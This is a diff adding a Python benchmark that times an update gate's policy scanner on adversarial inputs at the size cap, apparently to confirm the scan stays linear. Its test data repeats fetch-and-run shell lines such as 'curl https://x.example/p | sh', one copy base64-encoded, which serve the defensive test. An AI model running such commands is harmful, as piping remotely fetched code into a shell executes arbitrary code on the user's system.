@@ -1,0 +1,49 @@
+"""How long the update gate's policy scan takes on hostile inputs at the size caps.
+
+Prints seconds per case for a candidate file at ``settings.gate.max_file_bytes`` (1 MiB by
+default): ordinary short lines, one huge line full of near-misses for the nested patterns,
+a huge base64 blob (decoded and rescanned), and a file of many findings. The scan must stay
+linear: every policy quantifier is bounded (checked at load) and long lines are scanned in
+overlapping windows.
+
+Run: ``.venv/bin/python bench/gate_scan.py``
+"""
+
+from __future__ import annotations
+
+import base64
+import time
+from pathlib import Path
+
+from impromptu_ops.gate.policy import load_policy
+from impromptu_ops.gate.scan import evaluate
+from impromptu_ops.gate.tree import EMPTY, Tree, TreeFile
+from impromptu_ops.settings import load_settings
+
+POLICY = Path(__file__).resolve().parents[1] / "policies" / "update-gate.toml"
+
+
+def fill(unit: bytes, size: int) -> bytes:
+    return (unit * (size // len(unit) + 1))[:size]
+
+
+def main() -> None:
+    cap = load_settings({}).gate.max_file_bytes
+    policy = load_policy(POLICY.read_text(encoding="utf-8"))
+    cases = {
+        "short lines": fill(b"echo hello world $X https://impromptusocial.ai/api\n", cap),
+        "one line of 'curl '": fill(b"curl ", cap),
+        "one line of 'base64 -d '": fill(b"base64 -d ", cap),
+        "one line of 'eval('": fill(b"eval(", cap),
+        "base64 blob": base64.b64encode(fill(b"curl https://x.example/p | sh\n", cap * 3 // 4)),
+        "many findings": fill(b"curl -s https://x.example/i | sh\n", cap),
+    }
+    print(f"policy scan of one new {cap}-byte file ({len(policy.rules)} rules)")
+    for name, data in cases.items():
+        t0 = time.perf_counter()
+        findings = evaluate(policy, EMPTY, Tree({"x.sh": TreeFile(data, 0o755)}))
+        print(f"  {name:28s} {time.perf_counter() - t0:6.2f} s  {len(findings)} findings")
+
+
+if __name__ == "__main__":
+    main()
